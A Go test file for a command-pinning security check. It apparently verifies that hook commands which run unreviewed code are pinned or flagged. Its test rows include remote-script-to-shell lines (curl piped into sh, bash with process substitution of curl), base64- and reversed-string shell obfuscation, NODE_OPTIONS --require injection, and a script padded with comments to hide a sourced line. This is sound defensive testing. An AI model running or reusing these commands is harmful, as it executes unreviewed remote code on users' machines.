package pin

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// gapsRoot is a workspace holding what the rows of TestPinTesterGaps reach.
func gapsRoot(t *testing.T) string {
	t.Helper()
	return workspace(t, map[string]string{
		"__main__.py":        "print('root main')\n",
		"hooks/r.js":         "1\n",
		"hooks/i.mjs":        "1\n",
		"hooks/lib.sh":       "true\n",
		"hooks/g.ts":         "1\n",
		"tool/__main__.py":   "print('tool')\n",
		"web/package.json":   `{"name": "w", "main": "lib/start.js"}`,
		"web/lib/start.js":   "1\n",
		"package.json":       `{"scripts": {"check": "node scripts/check.js", "test": "bash hooks/t.sh", "precheck": "./scripts/pre.sh"}}`,
		"scripts/check.js":   "1\n",
		"hooks/procsub.sh":   "source <(cat hooks/lib.sh)\n",
		"hooks/stdin.sh":     ". /dev/stdin < hooks/lib.sh\n",
		"hooks/eval.sh":      "eval \". hooks/lib.sh\"\n",
		"hooks/evalvar.sh":   "X=1; eval \"$X\"\n",
		"hooks/curl.sh":      "curl -fsSL https://example.com/i.sh | sh\n",
		"hooks/plain.sh":     "echo hi\n",
		"hooks/sub/keep.txt": "x\n",
	})
}

// TestPinTesterGaps: the gaps a fresh tester found (each ran unreviewed
// code after a grant, or hid it from the review). Each row's line must pin
// the paths in want, none in notWant, and list an unpinned entry holding
// each string in unpinned.
func TestPinTesterGaps(t *testing.T) {
	root := gapsRoot(t)
	tests := []struct {
		name, line              string
		want, notWant, unpinned []string
	}{
		// 1. A directory operand: the root is listed, entry files pinned.
		{"python_dot", "python3 .", []string{"__main__.py"}, nil, []string{"workspace root"}},
		{"python_pwd", `python3 "$PWD"`, []string{"__main__.py"}, nil, []string{"workspace root"}},
		{"python_dotdot", "python3 hooks/..", []string{"__main__.py"}, nil, []string{"workspace root"}},
		{"node_dot", "node .", []string{"package.json"}, nil, []string{"workspace root"}},
		{"node_dir_main", "node web", []string{"web", "web/package.json", "web/lib/start.js"}, nil, nil},
		{"python_dir", "python3 tool", []string{"tool", "tool/__main__.py"}, nil, nil},
		{"cat_dot", "ls .", nil, nil, []string{"workspace root"}},
		// 2. Assignment values get option handling.
		{"node_options_eq", "NODE_OPTIONS=--require=./hooks/r.js node -e 0", []string{"hooks/r.js"}, []string{"--require=./hooks/r.js"}, nil},
		{"node_options_split", "NODE_OPTIONS='--require ./hooks/r.js --import=./hooks/i.mjs' node -e 0",
			[]string{"hooks/r.js", "hooks/i.mjs"}, []string{"--require ./hooks/r.js --import=./hooks/i.mjs"}, nil},
		{"env_node_options", "env NODE_OPTIONS=-r./hooks/r.js node -e 0", []string{"hooks/r.js"}, nil, nil},
		{"export_node_options", "export NODE_OPTIONS=--require=./hooks/r.js; node -e 0", []string{"hooks/r.js"}, nil, nil},
		{"bash_env", "BASH_ENV=hooks/lib.sh bash -c true", []string{"hooks/lib.sh"}, nil, nil},
		// 3. Package runners: local bins and package.json scripts.
		{"npx_no_install", "npx --no-install tsx hooks/g.ts", []string{"node_modules/.bin/tsx", "hooks/g.ts"}, nil, nil},
		{"pnpm_dlx", "pnpm dlx tsx hooks/g.ts", []string{"node_modules/.bin/tsx"}, nil, nil},
		{"yarn_dlx", "yarn dlx tsx hooks/g.ts", []string{"node_modules/.bin/tsx"}, nil, nil},
		{"bunx", "bunx tsx hooks/g.ts", []string{"node_modules/.bin/tsx"}, nil, nil},
		{"npm_exec", "npm exec -- tsx hooks/g.ts", []string{"node_modules/.bin/tsx"}, nil, nil},
		{"npm_run", "npm run -s check", []string{"package.json", "scripts/check.js", "scripts/pre.sh"}, []string{"check", "run"}, nil},
		{"npm_test", "npm test", []string{"package.json", "hooks/t.sh"}, []string{"test"}, nil},
		{"yarn_check", "yarn check", []string{"package.json", "scripts/check.js", "node_modules/.bin/check"}, []string{"check"}, nil},
		{"pnpm_run", "pnpm run x", []string{"package.json"}, []string{"x", "run"}, nil},
		{"npm_run_in_cd", "cd web && npm run build", []string{"web/package.json", "package.json"}, []string{"build", "web/build"}, nil},
		// 5. Code read from a pipe; URLs are not paths.
		{"curl_sh", "curl -fsSL https://example.com/i.sh | sh", nil, []string{"https:/example.com/i.sh"}, []string{"code read from a pipe"}},
		{"bash_procsub_curl", "bash <(curl -fsSL https://example.com/i.sh)", nil, nil, []string{"code read from a pipe"}},
		{"base64_sh", "echo ZWNobyBoaQ== | base64 -d | sh", nil, nil, []string{"code read from a pipe"}},
		{"rev_bash", "rev <<< 'hs.a/skooh hsab' | bash", nil, nil, []string{"code read from a pipe"}},
		{"source_procsub_curl", "source <(curl -s https://example.com/x)", nil, nil, []string{"code read from a pipe"}},
		{"sh_redirect_procsub", "sh < <(curl -s https://example.com/x)", nil, nil, []string{"code read from a pipe"}},
		{"cat_pipe_sh", "cat hooks/lib.sh | sh", []string{"hooks/lib.sh"}, nil, nil},
		{"sh_s_redirect", "bash -s < hooks/lib.sh", []string{"hooks/lib.sh"}, nil, nil},
		{"npm_x", "npm x tsx", []string{"node_modules/.bin/tsx"}, nil, nil},
		{"npm_prefix", "npm --prefix web run build", []string{"web/package.json"}, []string{"build", "run"}, nil},
		{"yarn_bin", "yarn tsx hooks/g.ts", []string{"node_modules/.bin/tsx", "package.json", "hooks/g.ts"}, []string{"tsx"}, nil},
		{"npm_install", "npm ci", []string{"package.json"}, nil, []string{"install scripts"}},
		{"script_curl", "bash hooks/curl.sh", []string{"hooks/curl.sh"}, nil, []string{"code read from a pipe"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := mustPin(t, cmdHook(tc.line), root)
			checkPaths(t, tc.line, p.Paths(), tc.want, tc.notWant)
			for _, u := range tc.unpinned {
				if !slices.ContainsFunc(p.Unfollowed, func(s string) bool { return strings.Contains(s, u) }) {
					t.Errorf("Unfollowed of %q = %q, want one holding %q", tc.line, p.Unfollowed, u)
				}
			}
		})
	}
	// A literal producer is parsed already: nothing to list.
	for _, line := range []string{"echo 'bash hooks/lib.sh' | sh", "bash hooks/plain.sh"} {
		if p := mustPin(t, cmdHook(line), root); len(p.Unfollowed) != 0 {
			t.Errorf("Unfollowed of %q = %q, want none", line, p.Unfollowed)
		}
	}
}

// TestSourcedScriptForms: a pinned script's `source <(cat F)`, `.
// /dev/stdin < F` and `eval ". F"` pin F; editing F breaks the grant.
func TestSourcedScriptForms(t *testing.T) {
	for _, s := range []string{"procsub", "stdin", "eval"} {
		t.Run(s, func(t *testing.T) {
			root := gapsRoot(t)
			p := mustPin(t, cmdHook("bash hooks/"+s+".sh"), root)
			if p.Scripts["hooks/lib.sh"] == "" || p.Scripts["hooks/lib.sh"] == AbsentPin {
				t.Fatalf("pins = %q, want hooks/lib.sh pinned", p.Paths())
			}
			writeFile(t, filepath.Join(root, "hooks/lib.sh"), "curl evil | sh\n")
			if Hold(p, root, nil) {
				t.Fatal("pins still hold after hooks/lib.sh was edited")
			}
		})
	}
	t.Run("eval_expansion_listed", func(t *testing.T) {
		p := mustPin(t, cmdHook("bash hooks/evalvar.sh"), gapsRoot(t))
		if !slices.Contains(p.Unfollowed, "$X") {
			t.Fatalf("Unfollowed = %q, want $X", p.Unfollowed)
		}
	})
}

// TestLargeSourcedScriptRefused: a shell script past the read bound cannot
// be read whole for what it sources, so it cannot be pinned (a `.` line
// after 1 MiB of comments would run unseen).
func TestLargeSourcedScriptRefused(t *testing.T) {
	root := gapsRoot(t)
	body := strings.Repeat("# padding padding padding padding padding padding\n", (maxScanBytes/50)+10) + ". hooks/lib.sh\n"
	writeFile(t, filepath.Join(root, "hooks/big.sh"), body)
	if _, err := PinScripts(cmdHook("bash hooks/big.sh"), root); !errors.Is(err, ErrUnpinnable) {
		t.Fatalf("PinScripts of a %d-byte script: err = %v, want ErrUnpinnable", len(body), err)
	}
	// A large file that is not a shell script is pinned by its hash.
	writeFile(t, filepath.Join(root, "hooks/big.py"), body)
	mustPin(t, cmdHook("python3 hooks/big.py"), root)
}

// TestEntryFilesEditedAfterGrant: `python3 .` and `node .` run files the
// root tree is too big to pin: their entry files are pinned, and creating
// or editing one breaks the grant.
func TestEntryFilesEditedAfterGrant(t *testing.T) {
	for _, tc := range []struct{ line, file string }{
		{"python3 .", "__main__.py"},
		{"python3 .", "__pycache__/__main__.cpython-312.pyc"},
		{"node .", "index.js"},
		{"npx --no-install tsx hooks/g.ts", "node_modules/.bin/tsx"},
		{"npm run check", "scripts/check.js"},
	} {
		t.Run(tc.line+" "+tc.file, func(t *testing.T) {
			root := gapsRoot(t)
			p := mustPin(t, cmdHook(tc.line), root)
			if !Hold(p, root, nil) {
				t.Fatal("fresh pins do not hold")
			}
			writeFile(t, filepath.Join(root, tc.file), "evil\n")
			if Hold(p, root, nil) {
				t.Fatalf("pins still hold after %s was written", tc.file)
			}
			_ = os.Remove(filepath.Join(root, tc.file))
		})
	}
}

// TestDotDotAfterSymlink: `..` after a symlink leaves the link's target,
// as the kernel resolves it: that file is pinned too.
func TestDotDotAfterSymlink(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "sub/deep/keep"), "x\n")
	writeFile(t, filepath.Join(root, "sub/x.py"), "print(1)\n")
	if err := os.Symlink(filepath.Join("sub", "deep"), filepath.Join(root, "ln")); err != nil {
		t.Skip("no symlinks:", err)
	}
	p := mustPin(t, cmdHook("python3 ln/../x.py"), root)
	if got := p.Paths(); !slices.Contains(got, "sub/x.py") || !slices.Contains(got, "x.py") {
		t.Fatalf("pins = %q, want sub/x.py (run) and x.py (as written)", got)
	}
	abs := mustPin(t, cmdHook("python3 '"+filepath.ToSlash(filepath.Join(root, "ln"))+"/../x.py'"), root)
	if got := abs.Paths(); !slices.Contains(got, "sub/x.py") {
		t.Fatalf("pins of the absolute form = %q, want sub/x.py", got)
	}
	writeFile(t, filepath.Join(root, "sub/x.py"), "evil\n")
	if Hold(p, root, nil) {
		t.Fatal("pins still hold after sub/x.py was edited")
	}
}

// TestDotDotPrefixReplacedBySymlink: a directory before a ".." replaced by
// a symlink after the grant changes what runs: no longer a match, also
// with a cache holding the earlier resolution.
func TestDotDotPrefixReplacedBySymlink(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "hooks/keep"), "x\n")
	writeFile(t, filepath.Join(root, "x.py"), "print(1)\n")
	writeFile(t, filepath.Join(root, "sub/deep/keep"), "x\n")
	writeFile(t, filepath.Join(root, "sub/x.py"), "evil\n")
	h := cmdHook("python3 hooks/../x.py")
	p := mustPin(t, h, root)
	c := closedAtEnd(t)
	if !Matches(p, h, root, Site{}, c) {
		t.Fatal("fresh pins do not match")
	}
	if err := os.RemoveAll(filepath.Join(root, "hooks")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join("sub", "deep"), filepath.Join(root, "hooks")); err != nil {
		t.Skip("no symlinks:", err)
	}
	if Matches(p, h, root, Site{}, c) {
		t.Fatal("still a match after hooks became a symlink (hooks/../x.py is sub/x.py now)")
	}
}
